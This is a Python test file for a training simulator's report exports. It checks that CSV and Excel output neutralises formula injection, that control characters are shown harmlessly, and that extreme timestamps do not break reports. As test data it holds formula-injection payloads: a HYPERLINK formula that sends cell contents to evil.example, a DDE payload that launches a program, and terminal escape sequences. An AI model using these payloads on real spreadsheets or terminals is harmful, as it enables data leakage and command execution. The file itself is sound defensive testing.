"""Exports are safe to open: no cell acts as a formula, control characters neither break a workbook
nor reach the terminal, and timestamps at the ends of the calendar do not stop a report.

Each test reads the written file back (openpyxl, the csv module) instead of trusting the writer.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from openpyxl import load_workbook

from simkit.content.kit import Kit
from simkit.engine.dialogue import play_model
from simkit.engine.generation import generate
from simkit.reports.cells import FORMULA_STARTS, cell, visible
from simkit.reports.exports import to_csv, to_excel, trainee_html
from simkit.reports.readiness import readiness
from simkit.reports.tables import report_tables, score_trend
from simkit.store.database import Store
from simkit.store.transcripts import import_transcripts

from .conftest import ROOT, CliResult

SCENARIO = "discount-demand-sports-food"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
# trainee -> cohort: every character a spreadsheet takes as the start of a formula, in names and cohorts
FORMULA_NAMES = {LINK: "=1+1", "+Anna": "@SUM(A1)", "-Boris": "+B", "@Vera": "-2+3", "=Gleb": "=cmd|' /C calc'!A0"}
CONVERSATION = '=HYPERLINK("http://evil.example","conv")'
CONTROL_NAMES = {"Esc\x1b[31mRED\x1b[0m": "A", "Vt\x0bTab": "B", "Nul\x00Name": "C\x1b]0;title\x07"}


def _play(kit: Kit, seed: int) -> Any:
    return play_model(generate(kit.scenario(SCENARIO), seed, "ru"), kit)


def _fill(url: str, kit: Kit, names: dict[str, str], tmp_path: Path) -> None:
    with Store(url) as store:
        for seed, (trainee, cohort) in enumerate(names.items(), 1):
            store.save_attempt(_play(kit, seed), trainee, "practice", cohort=cohort)
        # a conversation id comes from an imported file: through the real import
        export = tmp_path / "conversations.csv"
        with export.open("w", newline="", encoding="utf-8") as f:
            rows = csv.writer(f)
            rows.writerow(["conversation_id", "timestamp", "speaker", "text"])
            rows.writerow([CONVERSATION, "2025-03-01T10:00:00+00:00", "customer", "Здравствуйте, где мой заказ?"])
            rows.writerow([CONVERSATION, "2025-03-01T10:01:00+00:00", "agent", "Здравствуйте! Сейчас проверю ваш заказ."])
        assert import_transcripts(store, kit, export, "=Importer").stored == 1


@pytest.fixture
def formula_store(tmp_path: Path, kit: Kit) -> str:
    url = f"sqlite:///{tmp_path / 'formula.db'}"
    _fill(url, kit, FORMULA_NAMES, tmp_path)
    return url


@pytest.fixture
def control_store(tmp_path: Path, kit: Kit) -> str:
    url = f"sqlite:///{tmp_path / 'control.db'}"
    _fill(url, kit, CONTROL_NAMES, tmp_path)
    return url


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _formula_fields(rows: list[list[str]]) -> list[str]:
    """Fields a spreadsheet would read as a formula: text starting with = + - @ tab or CR (a number is a number)."""
    return [f for row in rows for f in row if f.startswith(FORMULA_STARTS) and f != "-" and not _is_number(f)]


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _csv_file(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:  # newline="": a CR inside a field stays a CR
        return list(csv.reader(f))


# --- formula injection ----------------------------------------------------------------------------------


def test_formula_injection_no_cell_of_the_readiness_workbook_is_a_formula(
    cli: Callable[..., CliResult], formula_store: str, tmp_path: Path
) -> None:
    out = tmp_path / "r.xlsx"
    code, _, err = cli("readiness", "--format", "xlsx", "--out", str(out), "--db", formula_store, "--kit", str(ROOT))
    assert code == 0, err
    book = load_workbook(out)
    formulas = [f"{s.title}!{c.coordinate}={c.value}" for s in book for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for s in book for row in s.iter_rows() for c in row if isinstance(c.value, str)}
    for trainee, cohort in FORMULA_NAMES.items():
        assert "'" + trainee in texts and "'" + cohort in texts  # shown, as text, with the quote that keeps it text
    assert any(t.startswith("transcript:=HYPERLINK") and "conv" in t for t in texts)  # the imported id, as text


def test_formula_injection_readiness_csv_fields_carry_a_quote(
    cli: Callable[..., CliResult], formula_store: str, tmp_path: Path
) -> None:
    common = ("readiness", "--format", "csv", "--db", formula_store, "--kit", str(ROOT))
    code, printed, err = cli(*common)
    assert code == 0, err
    out = tmp_path / "r.csv"
    assert cli(*common, "--out", str(out))[0] == 0
    for rows in (_csv_rows(printed), _csv_file(out)):
        assert _formula_fields(rows) == []
        assert {r[0] for r in rows[1:]} == {"'" + t for t in [*FORMULA_NAMES, "=Importer"]}


def test_formula_injection_report_tables_as_csv_files(formula_store: str, kit: Kit, tmp_path: Path) -> None:
    with Store(formula_store) as store:
        attempts = store.attempts()
    for lang in (None, "en"):
        files = to_csv(report_tables(attempts, kit, readiness(attempts, kit), lang), tmp_path / f"csv-{lang}")
        assert len(files) == 5
        for path in files:
            assert _formula_fields(_csv_file(path)) == [], path.name
        readiness_rows = _csv_file(files[0])
        assert {"'" + t for t in FORMULA_NAMES} <= {f for row in readiness_rows for f in row}


def test_negative_numbers_stay_numbers_and_formula_text_becomes_text(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"name": ["=1+1", "-", "plain", "\tTab", "\rCR", "'=kept"], "figure": [-5.0, -0.5, 3.0, -1e9, 0.0, -7.0]}
    )
    book = load_workbook(to_excel({"t": frame}, tmp_path / "n.xlsx"))["t"]
    names = [book.cell(row=r, column=1) for r in range(2, 8)]
    figures = [book.cell(row=r, column=2) for r in range(2, 8)]
    assert [c.value for c in figures] == [-5.0, -0.5, 3.0, -1e9, 0.0, -7.0] and {c.data_type for c in figures} == {"n"}
    # a quote is never doubled; XML reads a CR as a line end
    assert [c.value for c in names] == ["'=1+1", "-", "plain", "'\tTab", "'\nCR", "'=kept"]
    assert {c.data_type for c in names} == {"s"}
    (path,) = to_csv({"t": frame}, tmp_path / "csv")
    rows = _csv_file(path)
    assert [r[1] for r in rows[1:]] == ["-5.0", "-0.5", "3.0", "-1000000000.0", "0.0", "-7.0"]  # numbers, unquoted
    assert [r[0] for r in rows[1:]] == ["'=1+1", "-", "plain", "'\tTab", "'\rCR", "'=kept"]


def test_formula_starts_in_headers_are_text_too(tmp_path: Path) -> None:
    # column names come from content (rule titles, kinds): an author's "=..." title is no formula either
    frame = pd.DataFrame({"=SUM(1)": [1.0], "@x": ["y"]})
    sheet = load_workbook(to_excel({"t": frame}, tmp_path / "h.xlsx"))["t"]
    assert [(c.value, c.data_type) for c in sheet[1]] == [("'=SUM(1)", "s"), ("'@x", "s")]


def test_cell_helper_leaves_other_values_alone() -> None:
    assert [cell(v) for v in (5, -5, -2.5, None, True, "ok", "-", "a=b")] == [5, -5, -2.5, None, True, "ok", "-", "a=b"]
    assert cell("=x") == "'=x" and cell(cell("=x")) == "'=x"


# --- control characters ----------------------------------------------------------------------------------


def test_control_characters_in_names_do_not_break_the_workbook(
    cli: Callable[..., CliResult], control_store: str, tmp_path: Path
) -> None:
    out = tmp_path / "c.xlsx"
    code, _, err = cli("readiness", "--format", "xlsx", "--out", str(out), "--db", control_store, "--kit", str(ROOT))
    assert code == 0, err
    book = load_workbook(out)
    texts = {c.value for s in book for row in s.iter_rows() for c in row if isinstance(c.value, str)}
    assert {"Esc␛[31mRED␛[0m", "Vt␋Tab", "Nul␀Name", "C␛]0;title␇"} <= texts  # every trainee is there, shown
    assert not any(ch in t for t in texts for ch in "\x00\x07\x0b\x1b")


def test_control_characters_in_names_reach_no_terminal(cli: Callable[..., CliResult], control_store: str) -> None:
    code, out, err = cli("readiness", "--db", control_store, "--kit", str(ROOT), "--lang", "en")
    assert code == 0, err
    assert "Esc␛[31mRED␛[0m" in out and "Nul␀Name" in out and "C␛]0;title␇" in out
    assert not any(ch in out for ch in "\x00\x07\x0b\x1b")
    code, out, _ = cli("readiness", "--db", control_store, "--kit", str(ROOT), "--format", "csv")
    assert code == 0 and "\x1b" not in out and "Esc␛[31mRED␛[0m" in out
    code, out, _ = cli("readiness", "--db", control_store, "--kit", str(ROOT), "--format", "json")
    assert code == 0 and "Esc\x1b[31mRED\x1b[0m" in {v["trainee"] for v in json.loads(out)}  # JSON escapes, data intact
    code, _, err = cli("report", "Nobody\x1b[2J", "--db", control_store, "--kit", str(ROOT))
    assert code == 1 and "\x1b" not in err and "Nobody␛[2J" in err


def test_control_characters_in_replies_and_names_reach_no_terminal_in_play(cli: Callable[..., CliResult], tmp_path: Path) -> None:
    replies = tmp_path / "replies.yaml"
    replies.write_text('- "Здравствуйте!\\e]0;owned\\a \\e[2J Переключаю вас на начальника отдела."\n', encoding="utf-8")
    url = f"sqlite:///{tmp_path / 'p.db'}"
    trainee = "Dina\x1b[8m"
    code, out, err = cli("play", SCENARIO, "--replies", str(replies), "--trainee", trainee, "--db", url, "--kit", str(ROOT))
    assert code == 0, err
    assert "\x1b" not in out and "\x07" not in out and "␛]0;owned␇" in out
    assert "\x1b" not in err and "Dina␛[8m" in err
    with Store(url) as store:  # stored as typed: only what is shown is cleaned
        (attempt,) = store.attempts()
    assert attempt["trainee"] == trainee and "\x1b]0;owned\x07" in attempt["replies"][0]["reply"]


def test_visible_shows_every_control_character() -> None:
    assert visible("a\x1bb\x00c\x7fd\x9be") == "a␛b␀c␡d\\x9be"
    assert visible("line\nnext\ttab") == "line\nnext\ttab"  # layout characters stay
    assert visible("line\nnext", keep="") == "line␊next"
    assert visible("cr\rback") == "cr␍back"  # a CR would let text overwrite its line


# --- timestamps at the ends of the calendar -------------------------------------------------------------

ENDS = [datetime(1, 1, 1, tzinfo=UTC), datetime(9999, 12, 31, 23, 58, tzinfo=UTC), datetime(2025, 3, 1, 10, tzinfo=UTC)]


@pytest.fixture
def ends_store(tmp_path: Path, kit: Kit) -> str:
    url = f"sqlite:///{tmp_path / 'ends.db'}"
    with Store(url) as store:
        for seed, moment in enumerate(ENDS, 1):
            store.save_attempt(_play(kit, seed), "Eve", "practice", started_at=moment, finished_at=moment, cohort="E")
    return url


def test_report_and_workbook_survive_timestamps_of_year_1_and_year_9999(
    cli: Callable[..., CliResult], ends_store: str, kit: Kit, tmp_path: Path
) -> None:
    common = ("--db", ends_store, "--kit", str(ROOT))
    page = tmp_path / "eve.html"
    code, _, err = cli("report", "Eve", "--out", str(page), "--lang", "en", *common)
    assert code == 0, err
    text = page.read_text(encoding="utf-8")
    assert "9999-12-31 23:58 UTC" in text and "0001-01-01 00:00 UTC" in text
    out = tmp_path / "eve.xlsx"
    code, _, err = cli("readiness", "--format", "xlsx", "--out", str(out), "--lang", "en", *common)
    assert code == 0, err
    trend = load_workbook(out)["Score trend"]
    finished = [c.value for c in trend["D"]][1:]
    assert [str(v)[:10] for v in finished] == ["0001-01-01", "2025-03-01", "9999-12-31"]  # in time order
    with Store(ends_store) as store:
        frame = score_trend(store.attempts(), kit)
    assert [t.year for t in frame["finished_at"]] == [1, 2025, 9999]


def test_moments_with_offsets_past_the_calendar_are_shown_not_raised(kit: Kit, tmp_path: Path) -> None:
    with Store(f"sqlite:///{tmp_path / 'o.db'}") as store:
        store.save_attempt(_play(kit, 1), "Eve", "practice")
        (attempt,) = store.attempts()
    # a moment that exists only in its own time zone: UTC would fall outside the calendar
    attempt["started_at"] = attempt["finished_at"] = "9999-12-31T23:00:00-05:00"
    page = trainee_html("Eve", [attempt], None, kit, "en")
    assert "9999-12-31" in page
    assert score_trend([attempt], kit)["finished_at"][0].year == 9999
